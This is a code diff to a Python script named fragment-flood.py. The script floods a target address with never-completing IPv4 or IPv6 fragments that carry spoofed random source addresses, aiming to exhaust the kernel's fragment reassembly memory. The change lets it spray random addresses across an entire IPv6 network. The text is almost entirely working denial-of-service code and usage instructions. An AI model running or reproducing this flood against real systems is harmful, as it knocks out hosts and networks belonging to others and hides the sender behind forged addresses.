@@ -2,6 +2,8 @@
 
 python3 fragment-flood.py DEVICE MAC DESTINATION first|later|both
 
+DESTINATION is an address, or an IPv6 network whose addresses are taken at random.
+
 No datagram is ever complete: every fragment has a source and an identification of its own (`both`: first and
 later fragments in turn). Says `{"flooding": N}` on stdout once N fragments have left, N more than the kernel's
 reassembly memory holds by default, then floods on, and says `{"sent": N}` when stdin ends.
@@ -20,7 +22,9 @@ AT_ONCE = 64
 UDP, FRAGMENT = 17, 44
 device, mac, destination, kinds = sys.argv[1:5]
 IPV6 = ":" in destination
-TARGET = socket.inet_pton(socket.AF_INET6 if IPV6 else socket.AF_INET, destination)
+address, _, network_bits = destination.partition("/")
+TARGET = socket.inet_pton(socket.AF_INET6 if IPV6 else socket.AF_INET, address)
+FIXED = int(network_bits or 128) // 8 if IPV6 else 4
 ETHERNET = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000001") + (b"\x86\xdd" if IPV6 else b"\x08\x00")
 PART = struct.pack("!HHHH", 40_000, 27_015, 1400, 0) + b"." * 56
 
@@ -44,7 +48,8 @@ def ipv6(later):
     source = bytes.fromhex("2a0e0000") + random.randbytes(12)
     fragment = struct.pack("!BBHI", UDP, 0, 1 | (64 if later else 0), random.getrandbits(32))
     header = struct.pack("!IHBB", 6 << 28, len(PART) + 8, FRAGMENT, 64)
-    return header + source + TARGET + fragment + PART
+    target = TARGET[:FIXED] + random.randbytes(len(TARGET) - FIXED)
+    return header + source + target + fragment + PART
 
 
 def main():
